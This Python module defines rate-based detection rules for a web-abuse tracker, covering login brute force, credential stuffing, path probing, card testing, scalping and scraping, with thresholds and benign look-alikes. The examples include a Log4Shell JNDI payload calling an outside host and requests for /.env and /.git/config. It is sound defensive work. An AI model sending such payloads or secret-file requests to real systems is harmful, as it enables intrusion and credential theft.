"""The burst rules: how many of a symptom, in how long, make a network suspicious. A new rule is one row here."""

from __future__ import annotations

from ip_tracking.detection.finding import Rule, Severity
from ip_tracking.detection.pages import PAGE, UNLED_PAGE

RULES: tuple[Rule, ...] = (
    Rule(
        name="login-brute-force",
        title="Many failed logins",
        owasp="OAT-007",
        severity=Severity.HIGH,
        symptom="failed-login",
        threshold=10,
        window_s=300,
        reason="People give up or ask for a new password after three to five tries. Ten failures in five minutes are a "
        "machine's, or those of a whole household that forgot at once.",
        example="Ten POSTs to /api/auth/login/ answered 401 within five minutes.",
        nearest_benign="A mobile app that retries a stale password: it stops at its own limit, mostly three or five.",
    ),
    Rule(
        name="login-hammering",
        title="Failed logins faster than anyone types",
        owasp="OAT-007",
        severity=Severity.MEDIUM,
        symptom="failed-login",
        threshold=6,
        window_s=20,
        reason="To read the refusal and type a password again takes five seconds and more, so that one person reaches "
        "four or five in twenty.",
        example="Six POSTs to /api/auth/login/ answered 401 within a second.",
        nearest_benign="A form whose button is clicked twice or three times at each try: people slow down to retype.",
        decides=False,  # the login policy already holds such a client; refusing it everything can wait for the tenth
    ),
    Rule(
        name="login-repetition",
        title="Logs in again and again",
        owasp="OAT-007",
        severity=Severity.MEDIUM,
        symptom="login-try",
        threshold=30,
        window_s=60,
        reason="For logs, which don't say whether a login that answers 200 or 302 was a good one; live traffic knows. "
        "One every two seconds for a minute is a machine's, whatever came of it.",
        example="Thirty POSTs to /login within a minute, each answered 302.",
        nearest_benign="A class of thirty who log in together: it takes them longer than a minute to type.",
        decides=False,
    ),
    Rule(
        name="credential-stuffing",
        title="Tries one account after another",
        owasp="OAT-008",
        severity=Severity.HIGH,
        symptom="failed-login",
        threshold=10,
        window_s=600,
        distinct="account",
        reason="A person has one account, a family a handful. Stuffing (each account with its own stolen password) and "
        "spraying (one password for all) look alike to who keeps no passwords: many accounts, few tries each. So they "
        "are one rule.",
        example="Ten accounts, one wrong password each, within ten minutes.",
        nearest_benign="An office of forty on a Monday: twenty forget their password, but over the morning.",
    ),
    Rule(
        name="slow-credential-stuffing",
        title="Tries one account after another, slowly",
        owasp="OAT-008",
        severity=Severity.MEDIUM,
        symptom="failed-login",
        threshold=30,
        window_s=3_600,
        distinct="account",
        reason="Who stays below the limits of a minute still needs many accounts. The office of forty fails on twenty.",
        example="Thirty-one accounts within an hour, one every two minutes.",
        nearest_benign="A provider that puts thousands of phones behind one address: thirty of them may forget within "
        "an hour.",
        decides=False,
    ),
    Rule(
        name="probing",
        title="Guessing at addresses that do not exist",
        owasp="OAT-014",
        severity=Severity.MEDIUM,
        symptom="missing-path",
        threshold=10,
        window_s=60,
        distinct="folder",
        reason="Broken links lead into one part of a site. Missing addresses in ten parts of it within a minute come "
        "from a list.",
        example="/old/, /admin.php, /test/, /phpmyadmin/ ... ten of them, each answered 404.",
        nearest_benign="A page whose images are all gone: what pages embed is not counted.",
    ),
    Rule(
        name="enumeration",
        title="Trying name after name",
        owasp="OAT-014",
        severity=Severity.MEDIUM,
        symptom="missing-path",
        threshold=30,
        window_s=60,
        distinct="ending",
        reason="A crawler that walks into a removed part of a site meets a dozen missing pages in a minute, then stops "
        "finding links to them. Thirty different ones, a new one every two seconds, are made up.",
        example="/api/v1/users, /api/v1/admin, /api/v1/debug ... thirty of them within a minute.",
        nearest_benign="A gallery of deleted products: addresses that differ only by a number or an identifier are "
        "one. So are those of a front end that asks for something missing of each thing in a list: they end alike.",
    ),
    Rule(
        name="foreign-software",
        title="Looking for software that is not here",
        owasp="OAT-018",
        severity=Severity.MEDIUM,
        symptom="foreign-software",
        threshold=3,
        window_s=300,
        distinct="path",
        reason="One old bookmark or one link to the previous site is one address. Three pages of programs that this "
        "site does not run, within five minutes, are a search for one that has a hole.",
        example="/wp-login.php, /phpmyadmin/, /cgi-bin/test-cgi",
        nearest_benign="A search engine that remembers the WordPress this site once was: pictures do not count, and it "
        "comes back for the pages one by one, minutes apart.",
    ),
    Rule(
        name="foreign-hammering",
        title="Keeps at software that is not here",
        owasp="OAT-007",
        severity=Severity.MEDIUM,
        symptom="foreign-software",
        threshold=30,
        window_s=600,
        reason="Machines guess passwords at /wp-login.php without looking whether it is there. Three a minute for ten "
        "minutes are more than anything left over from an old site sends.",
        example="Thirty POSTs to /wp-login.php within ten minutes, each answered 404.",
        nearest_benign="A monitor or an app that still asks the WordPress this site once was, once a minute.",
    ),
    Rule(
        name="sensitive-files",
        title="Asking for files that hold secrets",
        owasp="OAT-014",
        severity=Severity.HIGH,
        symptom="sensitive-file",
        threshold=2,
        window_s=600,
        reason="No page links to a secret. One request may be a curious person's, two within ten minutes are a search.",
        example="/.env, then /.git/config",
        nearest_benign="A monitor that checks every hour that /.env is closed: one request in the window.",
    ),
    Rule(
        name="exploit-attempt",
        title="Sent an exploit",
        owasp="OAT-014",
        severity=Severity.HIGH,
        symptom="exploit",
        threshold=1,
        window_s=60,
        reason="Nothing harmless sends these constructions, so that one is enough.",
        example="/?x=${jndi:ldap://198.51.100.7/a}",
        nearest_benign="A shopper who searches for O'Reilly or pastes a line of code: the signatures ask for the whole "
        "construction, never for a quote or a word alone.",
    ),
    Rule(
        name="attack-tool",
        title="Came with a tool for finding holes",
        owasp="OAT-014",
        severity=Severity.MEDIUM,
        symptom="scanner-agent",
        threshold=1,
        window_s=60,
        reason="The agent says so itself.",
        example="User-Agent: Mozilla/5.00 (Nikto/2.1.6)",
        nearest_benign="A tester whom the owner hired: allow that network while the test lasts.",
    ),
    Rule(
        name="malformed-requests",
        title="Sent something that is no HTTP",
        owasp="OAT-014",
        severity=Severity.MEDIUM,
        symptom="malformed",
        threshold=5,
        window_s=60,
        reason="A cut connection leaves one broken request. Five in a minute speak other protocols at this port to see "
        "what answers.",
        example='Requests such as "QUIT" or "\\x03\\x00\\x00/\\xE0", each answered 400.',
        nearest_benign="A browser that speaks TLS to the plain port: that greeting is not counted.",
    ),
    Rule(
        name="card-testing",
        title="One declined card after another",
        owasp="OAT-001",
        severity=Severity.MEDIUM,
        symptom="declined-payment",
        threshold=5,
        window_s=600,
        each="user",
        reason="A buyer tries a second card, perhaps a third. The shipped limit lets five through, so that it is the "
        "last number that can be seen. What is tried is not kept: trying many cards and guessing at one card's code "
        "(OAT-010) look alike.",
        example="Five checkouts of one customer within ten minutes, each answered 402.",
        nearest_benign="A buyer whose bank is down and who goes on: the limit holds them, and this only files.",
        decides=False,
    ),
    Rule(
        name="carding",
        title="Tests stolen cards by the dozen",
        owasp="OAT-001",
        severity=Severity.HIGH,
        symptom="declined-payment",
        threshold=25,
        window_s=3_600,
        reason="Twenty-five declined payments are eight buyers with three bad cards each, at one address within an "
        "hour; or who tests cards just below the limits, with many accounts or none.",
        example="A declined card every two minutes.",
        nearest_benign="An office of forty in a sale, of whom four are declined. While a payment provider declines "
        "everybody, a large office reaches it: allow the network meanwhile.",
    ),
    Rule(
        name="coupon-cracking",
        title="Guesses coupon codes",
        owasp="OAT-002",
        severity=Severity.MEDIUM,
        symptom="refused-coupon",
        threshold=20,
        window_s=3_600,
        reason="A code is mistyped twice or thrice, and an old newsletter's is tried. Guessing takes hundreds.",
        example="SAVE10, SAVE11, SAVE12 ... twenty of them refused within an hour.",
        nearest_benign="An office whose newsletter carried a code that has expired: ten colleagues, twice each, are "
        "found. So this only files.",
        decides=False,
    ),
    Rule(
        name="stock-holding",
        title="Fills carts and never pays",
        owasp="OAT-021",
        severity=Severity.MEDIUM,
        symptom="cart-add",
        threshold=100,
        window_s=600,
        unless="paid",
        reason="A third of carts are paid for, so that among a hundred things put into carts somebody paid. Counted "
        "from the last payment on.",
        example="A thing put into a cart every five seconds for ten minutes, and no payment.",
        nearest_benign="Forty people behind one address who fill their carts together: the first who pays ends the "
        "count.",
        decides=False,
    ),
    Rule(
        name="cart-hammering",
        title="Fills carts at machine speed",
        owasp="OAT-005",
        severity=Severity.MEDIUM,
        symptom="cart-add",
        threshold=60,
        window_s=10,
        reason="Forty people behind one address who all press the button when the sale opens, some twice, stay below. "
        "Six a second are a machine's that wants the stock before anybody.",
        example="Six POSTs a second to the cart for ten seconds.",
        nearest_benign="An office that waits for a sale together: once each, and a second try.",
        decides=False,
    ),
    Rule(
        name="scalping",
        title="Buys faster than people can",
        owasp="OAT-005",
        severity=Severity.MEDIUM,
        symptom="paid",
        threshold=10,
        window_s=10,
        reason="Forty people behind one address pay twenty times a minute when a sale is on: three in ten seconds. One "
        "a second is a machine's.",
        example="Ten paid checkouts within ten seconds from one address.",
        nearest_benign="An office in a sale, as above. A till that sends its queue after a break: allow its network.",
        decides=False,
    ),
    Rule(
        name="account-creation",
        title="Signs up one account after another",
        owasp="OAT-019",
        severity=Severity.MEDIUM,
        symptom="registered",
        threshold=10,
        window_s=3_600,
        reason="A family signs up four. Ten an hour are what the shipped limit lets through at most, so that it is the "
        "last number that can be seen.",
        example="Ten POSTs to the registration within an hour, each answered 201.",
        nearest_benign="A classroom or a fair stand signs up together, once: found, and only filed.",
        decides=False,
    ),
    Rule(
        name="crawling",
        title="Reads pages at machine speed",
        owasp="OAT-011",
        severity=Severity.MEDIUM,
        symptom="page",
        threshold=40,
        window_s=2,
        distinct="page",
        reason="Forty people who browse hurriedly behind one address ask for thirteen a second, and often for the "
        "same. Twenty different ones a second are a machine's. A slower crawler looks like an office at noon by its "
        "speed alone: its limit holds it.",
        example="/products/a/, /products/b/ ... forty different pages within two seconds.",
        nearest_benign="A front end that fetches each thing of a list by itself: thirty at once. A price-comparison "
        "partner at one a second never comes near, and a search engine in a hurry is only filed.",
        decides=False,
    ),
    Rule(
        name="scraping",
        title="Reads page after page, and comes from none",
        owasp="OAT-011",
        severity=Severity.MEDIUM,
        symptom="unled-page",
        threshold=40,
        window_s=20,
        distinct="page",
        reason="For logs that say from which page a client comes. Browsers tell, people read a page in seconds, and "
        "robots that mean well say who they are. Two pages a second for twenty seconds, each as if its address had "
        "been typed in, are a program's that hides.",
        example="/products/a/, /products/b/ ... forty different pages within twenty seconds, by a Firefox without a "
        "Referer.",
        nearest_benign="An office behind one address, on a site that tells browsers to send no Referer: forty hurried "
        "people are found, and only filed. What lies under /api/ is for programs, and not counted.",
        decides=False,
    ),
    Rule(
        name="agent-switching",
        title="Changes its browser with every request",
        owasp="OAT-015",
        severity=Severity.MEDIUM,
        symptom="dated-agent",
        threshold=10,
        window_s=10,
        distinct="user_agent",
        reason="An office shows as many browsers as it has people, so that a number alone tells nothing. But tools "
        "draw from lists of browsers that were made once: ten different ones within ten seconds, each of which came "
        "out five years ago or more.",
        example="Firefox/36.0, Chrome/49.0, MSIE 9.0 ... ten of them within ten seconds, all on one page.",
        nearest_benign="A provider that puts thousands of phones behind one address, a few in a hundred old ones: at a "
        "thousand requests a minute, six in ten seconds.",
        decides=False,
    ),
    Rule(
        name="cache-busting",
        title="Makes up queries so that no cache answers",
        owasp="OAT-015",
        severity=Severity.MEDIUM,
        symptom="random-query",
        threshold=30,
        window_s=15,
        distinct="query",
        reason="Only names are counted, and only such as no page writes: a search has one name and many values, a "
        "filter a dozen names. Addresses that are made up show as missing pages or as a crawl.",
        example="/?8371265, /?2290718 ... or /?XQKZ=81HA, /?PLR=X0T ... thirty of them within fifteen seconds.",
        nearest_benign="A page that polls with a random number each second: fifteen. The time of day is not counted.",
        decides=False,
    ),
    Rule(
        name="keeps-hammering",
        title="Goes on although it is refused",
        owasp="OAT-015",
        severity=Severity.MEDIUM,
        symptom="refused-by-policy",
        threshold=300,
        window_s=600,
        reason="Whoever waits as Retry-After says is refused once a minute: ten times in ten minutes, two hundred "
        "times with a page of twenty requests. Three hundred, one every two seconds, are read by nobody.",
        example="A client over its limit that repeats its request each second, whatever the 429 says.",
        nearest_benign="A library that retries each second, or a busy office a little over 1,200 a minute: both are "
        "found. The limit holds them, so that this only files: tell them, raise the limit, or block.",
        decides=False,
    ),
)

CRAWLING = next(rule for rule in RULES if rule.symptom == PAGE)
SCRAPING = next(rule for rule in RULES if rule.symptom == UNLED_PAGE)
